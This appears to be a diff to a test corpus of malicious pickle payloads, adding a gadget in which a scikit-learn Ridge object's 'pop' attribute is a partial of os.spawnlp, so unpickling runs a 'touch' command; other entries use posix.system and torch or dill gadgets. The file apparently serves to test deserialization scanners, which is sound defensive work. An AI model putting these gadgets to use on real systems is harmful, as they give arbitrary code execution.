@@ -87,6 +87,12 @@ def _keys(marker: str) -> bytes:
     return file(call("builtins", "dict", _built(_new("sklearn.base", "BaseEstimator"), {"keys": made})))
 
 
+def _its_own_state(marker: str) -> bytes:
+    """scikit-learn calls `state.pop`, and the state is the object itself."""
+    made = call("functools", "partial", named("os", "spawnlp"), 0, "touch", "touch", marker)
+    return b"\x80\x04" + _built(_new("sklearn.linear_model._ridge", "Ridge"), {"pop": made}).data + b"2b."
+
+
 def _append(marker: str) -> bytes:
     """APPEND calls the attribute of a partial."""
     made = call("functools", "partial", named("posix", "system"))
@@ -214,7 +220,7 @@ STATES = [
     Payload("statsmodels: a formula", _formula, module="statsmodels"),
 ]  # fmt: skip
 CALLED = [
-    Payload("dict calls keys", _keys), Payload("APPEND calls append", _append),
+    Payload("dict calls keys", _keys), Payload("scikit-learn calls pop", _its_own_state), Payload("APPEND calls append", _append),
     Payload("torch: in a string", _tensor_in_a_string, "torch-string", module="torch"),
     Payload("torch: _rebuild_from_type_v2", _called_by_torch, module="torch"), Payload("dill: _create_array", _called_by_dill, module="dill"),
     Payload("torch legacy: in the list of storages", _second_name_of_legacy, "torch", module="torch"),
